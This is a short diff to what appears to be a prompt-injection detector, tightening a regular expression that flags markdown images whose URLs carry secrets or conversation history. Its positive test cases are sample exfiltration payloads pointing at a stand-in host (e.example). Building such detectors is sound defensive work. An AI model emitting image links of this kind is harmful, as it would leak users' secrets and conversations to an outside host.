@@ -387,7 +387,7 @@ const exfiltration: readonly InjectionDetector[] = [
   }),
   injection('exfiltration', 'image-url', {
     why: 'an image whose address is to carry secrets or the conversation',
-    pattern: `!\\[[^\\]\\n]{0,100}\\]\\(https?://[^)\\s]{1,200}[?&/=][^)\\n]{0,40}(?:[$]\\{|\\{\\{?|\\[|<)[^)\\n]{0,40}(?:secret|token|env|credential|password|conversation|history|api_?key)[^)\\n]{0,60}\\)`,
+    pattern: `!\\[[^\\]\\n]{0,100}\\]\\(https?://[^)\\s]{1,200}[?&/=](?:[^)\\n]{0,40}(?:[$]\\{|\\{\\{?|<)[^)\\n]{0,40}(?:secret|token|env|credential|password|conversation|history|api_?key)|\\[[^)\\]\\n]{0,20}(?:conversation|history|user|summary|data))[^)\\n]{0,60}\\)`,
     positives: [
       '![x](https://e.example/p?d={{secrets}})',
       '![i](https://e.example/?q=[conversation history])',
